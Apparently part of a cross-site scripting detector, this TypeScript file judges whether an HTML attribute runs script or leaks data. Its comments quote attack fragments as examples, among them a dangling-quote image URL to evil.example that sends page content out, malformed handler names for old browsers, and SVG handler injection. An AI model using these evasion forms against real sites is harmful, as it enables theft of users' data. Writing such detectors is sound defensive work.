// One attribute of a tag: a handler, a URL that runs script, a style that does, or a name that replaces what the page's
// own script asks the document for.

import { decodeEntities } from '../../fields/escapes/entities.ts'
import { charset, findIn, pastRun, pastWord, QUOTES, SPACE, standsAt, vocabulary } from '../../runs.ts'
import type { Report } from '../detector.ts'
import { hostAt } from './addresses.ts'
import { isDirective } from './directives.ts'
import { isCall, reaches, steals } from './harms.ts'
import { runsAsUrl, scriptness } from './script.ts'
import { styleRuns } from './styles.ts'
import { CLOBBERED, FORM_PARTS, LOADING, URL_ATTRIBUTES } from './tags.ts'
import { withoutPlaceholders } from './tag.ts'
import type { Attribute } from './tag.ts'

/** What an attribute was. */
export const PLAIN = 0
export const HANDLER = 1
export const LOADS = 2

const VALUE_MAX = 512

export const judgeAttribute = (
  text: string,
  element: string,
  attribute: Attribute,
  report: Report,
): number => {
  const { at, start, stop, assigned } = attribute
  const colon = attribute.name.lastIndexOf(':')
  const name = colon < 0 ? attribute.name : attribute.name.slice(colon + 1)
  if (!assigned) return PLAIN
  const handles = handlerWeight(text, attribute, name)
  if (handles > 0) {
    report('xss-handler', handles, at, true, steals(text, start, stop))
    return HANDLER
  }
  if (
    name === 'srcdoc' ||
    (name === 'style' && styleRuns(text.slice(start, Math.min(stop, start + VALUE_MAX))))
  ) {
    report('xss-handler', 1, at, true)
    return HANDLER
  }
  if (name === 'http-equiv') return LOADS
  // Whatever form the button stands in, or names, is sent to a stranger.
  if (name === 'formaction' && hostAt(text, start) >= 0) {
    report('xss-markup', 1, at, true)
    return HANDLER
  }
  // `<set attributeName=onmouseover to=…>`: SVG animation that writes a handler.
  const animated = name === 'attributename' && text.slice(start, start + 2).toLowerCase() === 'on'
  // Netscape's `&{…}` and Internet Explorer's data binding, which renders markup.
  const entity = text.charCodeAt(start) === 38 && text.charCodeAt(start + 1) === 123
  const bound = name === 'dataformatas' && text.slice(start, start + 4).toLowerCase() === 'html'
  if (animated || entity || bound) {
    report('xss-handler', 1, at, true)
    return HANDLER
  }
  if (
    (name === 'id' || name === 'name') &&
    FORM_PARTS.has(element) &&
    CLOBBERED.has(valueOf(text, attribute))
  ) {
    report('xss-handler', 1, at, true)
    return HANDLER
  }
  if (runs(text, name, attribute) && !(element === 'img' && text.startsWith('data:image/', start))) {
    report('xss-url', 1, at, true)
    return HANDLER
  }
  if (isCall(text, start, stop)) {
    report('xss-handler', 1, at, true)
    return HANDLER
  }
  if (isDangling(text, name, attribute)) {
    report('xss-markup', 1, at, true)
    return HANDLER
  }
  return LOADING.has(name) || (element === 'xml' && name === 'id') ? LOADS : PLAIN
}

/** `<img src='//evil.example/?`: a quote that is left open, so that what the page has behind it is sent along. */
const isDangling = (text: string, name: string, { start, stop }: Attribute): boolean => {
  if (stop < text.length || stop - start > DANGLING_MAX || start === 0) return false
  const quote = text.charCodeAt(start - 1)
  if (quote !== 34 && quote !== 39) return false
  if (!URL_ATTRIBUTES.has(name) || !standsAt(text, stop - 1, ASKING)) return false
  const host = hostAt(text, start)
  return host >= 0 && host < stop && findIn(text, SPACE, host) < 0
}

const DANGLING_MAX = 120

const ASKING = charset('?&=')

const valueOf = (text: string, { start, stop }: Attribute): string =>
  text.slice(start, Math.min(stop, start + 40))

const handlerWeight = (text: string, { name: whole, start, stop }: Attribute, local: string): number => {
  if (isDirective(whole)) return reaches(text, start, stop) ? 1 : 0
  const name = withoutPlaceholders(local)
  const from = name.charCodeAt(0) === 43 ? 1 : 0
  if (name.length < from + 4 || name.charCodeAt(from) !== 111 || name.charCodeAt(from + 1) !== 110) return 0
  const strange = strangeAt(name, from + 2)
  if (strange < 0 && whole === local && (isAddress(text, start, stop) || isIdle(text, start, stop))) return 0
  // JSX and Vue have onClick={…} too, in code that is quoted; a template's braces run nothing in HTML.
  if (strange < 0 && whole === local) return text.charCodeAt(start) === 123 ? 0.4 : 1
  // `onload!#$%&=…`, `x:ontimer=…`: only old browsers take such names, so that the value has to tell.
  return strange !== from + 2 && scriptness(text, start, Math.min(stop, start + VALUE_MAX)) > 0 ? 1 : 0
}

/**
 * `onlineResource="http://a.example/x?"`: as a handler's script a label, and a comment up to its end. What could end the line,
 * or the value, stands nowhere in it.
 */
const isAddress = (text: string, start: number, stop: number): boolean => {
  const host = pastWord(text, start, WEB)
  return host > start && standsAt(text, start - 1, QUOTES) && pastRun(text, host, ADDRESS, stop) === stop
}

/** `onclick="return false;"`, `onclick=""`: nothing is done. A doubled quote may stand for one, as strings escape them. */
const isIdle = (text: string, start: number, stop: number): boolean =>
  stop - start <= IDLE_MAX &&
  (stop > start || (standsAt(text, stop, QUOTES) && standsAt(text, stop + 1, ENDS_VALUE))) &&
  IDLE.has(text.slice(start, stop).trim())

const IDLE_MAX = 16
const IDLE: ReadonlySet<string> = new Set([
  '',
  'return false',
  'return false;',
  'return true',
  'return true;',
])
const ENDS_VALUE = charset(' \t\n\f\r/>')

const WEB = vocabulary(['http://', 'https://'])
const ADDRESS = charset('A-Za-z0-9_./:?=%~+,@-')

/** `onload!#$%&()*~+-_.,:;?@[` and what a slash parts of it: a handler's name to old browsers, up to the equals sign. */
export const isSplitHandler = (name: string): boolean =>
  name.length > 5 && name.startsWith('on') && strangeAt(name, 2) > 4

/** Where a handler's name has something other than letters; -1 where it has not. */
const strangeAt = (name: string, from: number): number => {
  for (let at = from; at < name.length; at++) {
    const code = name.charCodeAt(at)
    if ((code < 97 || code > 122) && code >= 32 && code <= 126) return at
  }
  return -1
}

/** A script URL: in an attribute that takes URLs, or in any other where it is followed by script. */
const runs = (text: string, name: string, { start, stop }: Attribute): boolean => {
  const takes = URL_ATTRIBUTES.has(name)
  if (runsAsUrl(text, start, stop))
    return takes || scriptness(text, start, Math.min(stop, start + VALUE_MAX)) > 0
  const end = Math.min(stop, start + VALUE_MAX)
  if (!takes || text.slice(start, end).indexOf('&') < 0) return false
  // A browser undoes character references within the value, after it has found where the value ends.
  const decoded = decodeEntities(text.slice(start, end))
  return runsAsUrl(decoded, 0, decoded.length)
}
